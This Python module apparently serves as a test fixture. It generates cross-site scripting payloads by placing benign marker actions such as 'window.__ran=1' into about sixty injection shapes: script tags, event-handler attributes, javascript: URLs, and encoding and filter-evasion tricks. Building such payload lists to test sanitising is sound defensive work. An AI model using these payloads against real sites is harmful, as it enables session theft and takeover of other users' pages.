"""Script injection payloads for texts that a page shows."""

_ACTS = ["window.__ran=1", "parent.__ran=1", "document.title='ran'", "top['__r'+'an']=1",
         "Function`window.__ran=1```"]
_SHAPES = [
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>",
    "\"><img src=x onerror={}>", "'><svg onload={}>", "<svg/onload={}>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>", "<a href='javascript:{}'>x</a>", "javascript:{}",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>", "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "`;{};`", "';{};//", "\";{};//", "</textarea><script>{}</script>",
    "</title><script>{}</script>", "<!--<img src='--><img src=x onerror={}>'>",
    "<template><script>{}</script></template>", "<object data='javascript:{}'>",
    "<style>@import 'javascript:{}';</style>", "<link rel=stylesheet href='javascript:{}'>",
    "<form action='javascript:{}'><button>x</button></form>", "<x onmouseover={}>x</x>",
    "<base href='javascript:{}//'>", "<meta http-equiv=refresh content='0;javascript:{}'>",
    "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E", "<scr<script>ipt>{}</script>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<marquee onstart={}>x</marquee>",
    "<button popovertarget=x>x</button><p id=x popover onbeforetoggle={}>", "x\" onfocus={} autofocus \"",
    "x' onclick={} '", "<embed src='data:text/html,<script>{}</script>'>",
    "data:text/html,<script>{}</script>", "<svg><script>{}</script></svg>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<ScRiPt>{}</sCrIpT>",
    "<img src=\"x\"onerror=\"{}\">", "<select><img src=x onerror={}></select>",
    "<table background='javascript:{}'>", "<audio src onerror={}>", "<p style=animation-name:x onanimationstart={}>",
    "<svg><use href='data:image/svg+xml,<svg onload={}>'></use></svg>", "\u202e<script>{}</script>",
    "<img src=x:x onerror={} //", "__proto__<img src=x onerror={}>",
    "<a id=__ran href=1>{}</a>", "<form id=__ran><input name=value value={}></form>",
    "<dialog open onclose={}>", "<p onscroll={} tabindex=1>x", "<keygen autofocus onfocus={}>",
    "<input type=image src=x onerror={}>", "<svg><set onbegin={} attributename=x>",
    "<frameset onload={}>", "<p contenteditable onblur={} autofocus>x",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>", "\"/><script>{}</script>",
    "[x](javascript:{})", "<image src=x onerror={}>", "<isindex action=javascript:{} type=image>",
]

ALL = [shape.format(act) for act in _ACTS for shape in _SHAPES]
